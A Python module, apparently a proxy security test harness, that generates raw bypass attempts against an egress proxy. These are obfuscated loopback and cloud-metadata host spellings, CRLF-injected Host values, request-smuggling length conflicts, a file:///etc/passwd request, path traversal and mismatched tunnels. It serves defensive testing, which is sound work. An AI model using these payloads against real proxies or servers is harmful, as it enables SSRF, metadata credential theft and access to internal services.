"""Ways past a proxy that are known from other proxies (row E13), as bytes to be said to it."""

import ssl
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass

#: Whoever sends an attempt puts there what shows whose it is, so that it fails by nothing else.
AUTH = b"{AUTH}"
BASE = b"{BASE}"
OWN_HOST = "127.0.0.1:3128"


@dataclass(frozen=True, slots=True)
class Scene:
    """What there is around the proxy.

    Attributes:
        secured: A place with TLS that is allowed.
        plain: A place with plain HTTP that is allowed.
        denied: A host that is not.
        inside_port: Where a server listens on the node's loopback that nobody may reach.
        names: Names that are allowed, and lead where nobody may go.
        ports: Tried with each host, besides that.
    """

    secured: str
    plain: str
    denied: str
    inside_port: int
    names: tuple[str, ...] = ()
    ports: tuple[int, ...] = (80, 443)

    @property
    def secured_host(self) -> str:
        return self.secured.partition(":")[0]

    @property
    def plain_authority(self) -> str:
        """The plain place as a Host has it."""
        return self.plain.removesuffix(":80")


@dataclass(frozen=True, slots=True)
class Attempt:
    """Something said to the proxy, and something more if it opens a tunnel."""

    name: str
    said: bytes
    then: bytes = b""

    def shown(self, auth: bytes = b"", base: bytes = b"") -> "Attempt":
        """Return this with what shows whose it is."""
        said = self.said.replace(AUTH, auth).replace(BASE, base)
        return Attempt(self.name, said, self.then.replace(AUTH, auth).replace(BASE, base))


def attempts(scene: Scene) -> Iterator[Attempt]:
    """Return everything that is tried."""
    yield from by_host(scene)
    yield from by_length(scene)
    yield from by_message(scene)
    yield from by_tunnel(scene)


def hosts(scene: Scene) -> tuple[str, ...]:
    """Return other spellings of this machine, of what is not allowed, and of one behind another."""
    name, denied = scene.secured_host, scene.denied
    return (
        *("127.0.0.1", "localhost", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "0.0.0.0"),
        *("0", "[::]", "127.1", "127.0.1", "2130706433", "0x7f000001", "0177.0.0.1", "0x7f.0.0.1"),
        *("127.0.0.1.", "localhost.", "127.000.000.001", "[::1%25lo]", "[0:0:0:0:0:0:0:1]"),
        *("169.254.169.254", "[fd00:ec2::254]", "10.0.0.1", "[64:ff9b::7f00:1]", "[2002:7f00:1::]"),
        *(denied, denied.upper(), f"{denied}.", f"{name}.{denied}", f"{name}."),
        *(f"{name}@127.0.0.1", f"{name}:443@127.0.0.1", "user:pass@localhost"),
        *(f"127.0.0.1@{name}", f"{name}\\@127.0.0.1", f"127.0.0.1\\.{name}"),
        *(f"127.0.0.1#.{name}", f"127.0.0.1?.{name}", f"127.0.0.1%00.{name}"),
        *(f"127.0.0.1\x00.{name}", f"{name}\x00.{denied}", "127.0.0.1;x"),
        *(f"127.0.0.1\t{name}", f"127.0.0.1 {name}", f"{name},127.0.0.1"),
        *(f"127.0.0.1\r\nHost:{name}", f"{name}\n.{denied}", f"{name}%0d%0a.{denied}"),
        *("①②⑦.0.0.1", "127。0。0。1", "ⓛocalhost", "*.example", "%6cocalhost"),
        *("xn--localhost-9za", "loc\u00adalhost", "\uff4cocalhost", "127.0.0.1\u2024x"),
        *scene.names,
    )


def by_host(scene: Scene) -> Iterator[Attempt]:
    """Ask for a host that must not be reached, in each form."""
    for host in hosts(scene):
        for port in (scene.inside_port, *scene.ports):
            place = f"{host}:{port}"
            for name, line, own in (
                ("tunnel", f"CONNECT {place}", place),
                ("plain", f"GET http://{place}/latest/meta-data/", place),
                ("plain with an allowed Host", f"GET http://{place}/", scene.plain_authority),
                ("secured", f"GET {{BASE}}/https/{place}/", OWN_HOST),
            ):
                text = f"{line} HTTP/1.1\r\n{{AUTH}}Host: {own}\r\n\r\n".encode()
                yield Attempt(f"{name} to {place!r}", text, b"GET / HTTP/1.1\r\n\r\n")


def by_length(scene: Scene) -> Iterator[Attempt]:
    """Put a second request behind a first whose length can be read in two ways."""
    plain = f"{scene.plain}/ HTTP/1.1\r\n{{AUTH}}Host: {scene.plain_authority}\r\n".encode()
    for name, fields in (
        ("both lengths", b"Content-Length: 4\r\nTransfer-Encoding: chunked"),
        ("two lengths", b"Content-Length: 0\r\nContent-Length: 99"),
        ("length list", b"Content-Length: 0, 99"),
        ("spaced coding", b"Transfer-Encoding : chunked"),
        ("odd coding", b"Transfer-Encoding: \x0bchunked"),
        ("identity coding", b"Transfer-Encoding: identity"),
        ("twofold coding", b"Transfer-Encoding: chunked, chunked"),
        ("signed length", b"Content-Length: -1"),
    ):
        said = b"POST http://" + plain + fields + b"\r\n\r\n0\r\n\r\n" + _second(scene)
        yield Attempt(name, said)


def by_message(scene: Scene) -> Iterator[Attempt]:
    """Say one thing to the policy and another to the server."""
    inside = f"127.0.0.1:{scene.inside_port}".encode()
    second, denied = _second(scene), scene.denied.encode()
    own = scene.plain_authority.encode()
    plain = b"GET http://" + scene.plain.encode() + b"/ HTTP/1.1\r\n{AUTH}Host: "
    local = b" HTTP/1.1\r\nHost: localhost\r\n\r\n"
    secured = scene.secured.encode()
    yield Attempt("absolute form against Host", plain + denied + b"\r\n\r\n")
    yield Attempt("two Hosts", plain + own + b"\r\nHost: " + denied + b"\r\n\r\n")
    yield Attempt("folded Host", plain + own + b"\r\n " + denied + b"\r\n\r\n")
    yield Attempt("bare newline", plain + own + b"\nHost: " + denied + b"\r\n\r\n")
    yield Attempt("bare return", plain + own + b"\rHost: " + denied + b"\r\n\r\n")
    yield Attempt("line in the address", b"CONNECT " + secured + b"\r\nX: y HTTP/1.1\r\n\r\n")
    yield Attempt("address of a file", b"GET file:///etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n")
    yield Attempt("old protocol", b"GET http://" + inside + b"/\r\n\r\n")
    yield Attempt("path out", b"GET {BASE}/https/../" + inside + b"/" + local)
    yield Attempt("path slashes", b"GET {BASE}/https//" + inside + b"/" + local)
    yield Attempt("TLS in plain words", second.replace(b"http://", b"https://"))
    yield Attempt("trace", second.replace(b"GET", b"TRACE"))


def by_tunnel(scene: Scene) -> Iterator[Attempt]:
    """Open a tunnel to a host that is allowed, and mean another one."""
    place = scene.secured.encode()
    connect = b"CONNECT " + place + b" HTTP/1.1\r\n{AUTH}Host: " + place + b"\r\n\r\n"
    yield Attempt("no TLS in a tunnel", connect, _second(scene))
    yield Attempt("ssh in a tunnel", connect, b"SSH-2.0-x\r\n")
    yield Attempt("TLS for another in a tunnel", connect, _hello(scene.denied))
    yield Attempt("TLS for a subdomain in a tunnel", connect, _hello(f"x.{scene.secured_host}"))
    yield Attempt("TLS for nobody in a tunnel", connect, _hello(None))
    yield Attempt("broken TLS in a tunnel", connect, b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00")
    yield Attempt(
        "a tunnel with a body", connect.replace(b"\r\n\r\n", b"\r\nContent-Length: 5\r\n\r\nGET /")
    )


def _second(scene: Scene) -> bytes:
    inside = f"127.0.0.1:{scene.inside_port}"
    return f"GET http://{inside}/ HTTP/1.1\r\n{{AUTH}}Host: {inside}\r\n\r\n".encode()


def _hello(name: str | None) -> bytes:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    sent = ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname=name).do_handshake()
    return sent.read()
